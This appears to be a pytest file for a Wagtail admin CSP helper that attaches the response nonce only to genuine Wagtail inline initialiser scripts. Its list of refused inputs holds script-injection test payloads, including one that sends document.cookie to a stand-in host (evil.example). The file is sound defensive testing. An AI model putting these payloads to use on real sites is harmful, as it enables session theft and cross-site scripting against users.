"""core.csp.nonce_wagtail_initialisers: in the admin, only Wagtail's own inline initialisers get the response's
nonce. A script that does anything else, even one that starts like an initialiser, stays blocked."""

import pytest

from core.csp import is_wagtail_initialiser, nonce_wagtail_initialisers

NONCE = "n0nce"

ALLOWED = [
    'initDateChooser("id_written_on", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'initTimeChooser("id_t", {"format": "H:i"});',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i", "parentID": "#dialog"});',
    'new PageChooser("id_interprets", {"modelNames": ["openinfo.disclosuredocumentpage"], "canChooseRoot": false, '
    '"userPerms": null, "modalUrl": "/admin/choose-page/"});',
    'new DocumentChooser("id_attachments-__prefix__-document", {"modalUrl": "/admin/documents/chooser/"});',
    'new ImageChooser("id_image", {"modalUrl": "/admin/images/chooser/"});',
    'createTaskChooser("id_task");',
    # wagtailadmin/panels/inline_panel.html, with escapejs'd options.
    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: '
    '\\u0022InlinePanel\\u0022, \\u0022formsetPrefix\\u0022: \\u0022id_attachments\\u0022}"));\n        })();\n    ',
    '(function() { var panel = new MultipleChooserPanel(JSON.parse("{}")); })();',
]

REFUSED = [
    'initDateChooser("id", {}); alert(1);',
    'initDateChooser("id", {}), fetch("//evil.example/" + document.cookie);',
    "initDateChooser(alert(1));",
    'initDateChooser("id", {"a": window.name});',
    'new Function("alert(1)")("id", {});',
    'new PageChooser("id", {}) + alert(1);',
    'new EvilChooser("id", {});',
    'alert(1); initDateChooser("id", {});',
    '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
    '(function() { var panel = new InlinePanel(JSON.parse("" + alert(1) + "")); })();',
    "(function() { var panel = new InlinePanel(JSON.parse(location.hash)); })();",
    "wagtailModelTranslations = {languages: ['zh-hans']};",
    "",
]


@pytest.mark.parametrize("body", ALLOWED)
def test_wagtail_initialisers_with_json_arguments_are_recognised(body):
    assert is_wagtail_initialiser(body)


@pytest.mark.parametrize("body", REFUSED)
def test_anything_else_is_not(body):
    assert not is_wagtail_initialiser(body)


def test_only_initialisers_get_the_nonce():
    html = (
        f"<p>x</p><script>{ALLOWED[0]}</script>"
        f'<script type="text/javascript">{ALLOWED[4]}</script>'
        f"<script>{REFUSED[0]}</script>"
        '<script src="/static/js/x.js"></script>'
        f'<script type="application/json" id="data">{ALLOWED[0]}</script>'
        f'<script nonce="other">{ALLOWED[1]}</script>'
    )
    out = nonce_wagtail_initialisers(html, lambda: NONCE)
    assert out == (
        f'<p>x</p><script nonce="{NONCE}">{ALLOWED[0]}</script>'
        f'<script nonce="{NONCE}" type="text/javascript">{ALLOWED[4]}</script>'
        f"<script>{REFUSED[0]}</script>"
        '<script src="/static/js/x.js"></script>'
        f'<script type="application/json" id="data">{ALLOWED[0]}</script>'
        f'<script nonce="other">{ALLOWED[1]}</script>'
    )


def test_the_nonce_is_not_even_made_for_a_page_without_initialisers():
    def no_nonce():
        raise AssertionError("nonce requested")

    html = f'<script>{REFUSED[0]}</script><script src="/static/a.js"></script>'
    assert nonce_wagtail_initialisers(html, no_nonce) == html
